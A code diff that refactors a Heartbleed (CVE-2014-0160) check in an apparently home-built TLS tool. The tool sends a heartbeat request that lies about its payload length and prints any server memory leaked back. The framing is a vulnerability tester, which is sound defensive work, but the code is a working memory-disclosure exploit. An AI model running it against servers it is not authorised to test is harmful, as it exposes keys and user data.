@@ -37,6 +37,55 @@ void show(const Bytes& leaked) {
     std::cout << "  | " << line << "\n";
 }
 
+// Waits `ms` for whatever the server says; false when the connection ended.
+bool wait_for_answer(SocketDriver& driver, int ms) {
+    const Wake w = driver.wait_until([] { return false; }, ms);
+    return w == Wake::quiet || w == Wake::progress;
+}
+
+// The handshake, then an honest heartbeat: the exit code when the server
+// cannot be tested or has nothing to bleed; nullopt when the lie may follow.
+std::optional<int> agree_heartbeats(Connection& conn, SocketDriver& driver, int timeout_ms) {
+    conn.start();
+    if (driver.handshake() != Wake::progress) {
+        std::cout << "COULD NOT TEST: the TLS 1.2 handshake did not complete\n";
+        return 2;
+    }
+    if (!conn.info().heartbeat) {
+        std::cout << "NOT SUPPORTED: the server did not agree to heartbeats (no heartbeat extension in its ServerHello, RFC 6520 §2):\n"
+                  << "nothing to bleed.\n";
+        return 0;
+    }
+    conn.send_heartbeat(as_bytes("honest"));
+    wait_for_answer(driver, timeout_ms);
+    const std::vector<Bytes> honest = conn.take_heartbeat_responses();
+    if (honest.empty()) {
+        std::cout << "COULD NOT TEST: the server agreed to heartbeats but did not answer an honest one\n";
+        return 2;
+    }
+    return std::nullopt;
+}
+
+// The HeartbeatRequest that claims `claim` bytes of payload but carries one,
+// and the verdict on the answer; closes `fd`. 1 when the server leaked.
+int send_the_lie(Connection& conn, SocketDriver& driver, int fd, std::size_t claim, int timeout_ms) {
+    std::cout << "The server agreed to heartbeats and answered an honest one ('honest', 6 bytes).\n"
+              << "Now a HeartbeatRequest that claims " << claim << " bytes of payload but carries 1 ...\n";
+    conn.send_heartbeat(as_bytes("A"), static_cast<std::uint16_t>(claim));
+    const bool open = wait_for_answer(driver, timeout_ms);
+    const std::vector<Bytes> lie = conn.take_heartbeat_responses();
+    close(fd);
+    if (!lie.empty() && lie[0].size() > 1) {
+        std::cout << "LEAKED: the server answered with " << lie[0].size() << " bytes for the 1 it was sent: it copied memory it was\n"
+                  << "never given — it does not check payload_length against the record (RFC 6520 §4; CVE-2014-0160).\n";
+        show(lie[0]);
+        return 1;
+    }
+    std::cout << "DISCARDED (safe): " << (open ? "no answer" : "the server closed the connection")
+              << " — the request that lied about its length was discarded, as RFC 6520 §4 requires.\n";
+    return 0;
+}
+
 } // namespace
 
 int cmd_heartbleed(const std::vector<std::string>& argv) {
@@ -63,47 +112,12 @@ int cmd_heartbleed(const std::vector<std::string>& argv) {
     Connection conn(crypto::system_random(), nullptr);
     conn.set_engine(std::make_unique<ClientHandshake>(conn, config));
     SocketDriver driver(conn, fd, Deadlines{.handshake_ms = 10000});
-    // Waits `ms` for whatever the server says; false when the connection ended.
-    auto listen = [&](int ms) {
-        const Wake w = driver.wait_until([] { return false; }, ms);
-        return w == Wake::quiet || w == Wake::progress;
-    };
     try {
-        conn.start();
-        if (driver.handshake() != Wake::progress) {
-            std::cout << "COULD NOT TEST: the TLS 1.2 handshake did not complete\n";
+        if (const std::optional<int> untested = agree_heartbeats(conn, driver, timeout_ms)) {
             close(fd);
-            return 2;
+            return *untested;
         }
-        if (!conn.info().heartbeat) {
-            std::cout << "NOT SUPPORTED: the server did not agree to heartbeats (no heartbeat extension in its ServerHello, RFC 6520 §2):\n"
-                      << "nothing to bleed.\n";
-            close(fd);
-            return 0;
-        }
-        conn.send_heartbeat(as_bytes("honest"));
-        listen(timeout_ms);
-        const std::vector<Bytes> honest = conn.take_heartbeat_responses();
-        if (honest.empty()) {
-            std::cout << "COULD NOT TEST: the server agreed to heartbeats but did not answer an honest one\n";
-            close(fd);
-            return 2;
-        }
-        std::cout << "The server agreed to heartbeats and answered an honest one ('honest', 6 bytes).\n"
-                  << "Now a HeartbeatRequest that claims " << claim << " bytes of payload but carries 1 ...\n";
-        conn.send_heartbeat(as_bytes("A"), static_cast<std::uint16_t>(claim));
-        const bool open = listen(timeout_ms);
-        const std::vector<Bytes> lie = conn.take_heartbeat_responses();
-        close(fd);
-        if (!lie.empty() && lie[0].size() > 1) {
-            std::cout << "LEAKED: the server answered with " << lie[0].size() << " bytes for the 1 it was sent: it copied memory it was\n"
-                      << "never given — it does not check payload_length against the record (RFC 6520 §4; CVE-2014-0160).\n";
-            show(lie[0]);
-            return 1;
-        }
-        std::cout << "DISCARDED (safe): " << (open ? "no answer" : "the server closed the connection")
-                  << " — the request that lied about its length was discarded, as RFC 6520 §4 requires.\n";
-        return 0;
+        return send_the_lie(conn, driver, fd, claim, timeout_ms);
     } catch (const TlsError& e) {
         std::cout << "COULD NOT TEST: " << e.describe() << "\n";
         close(fd);
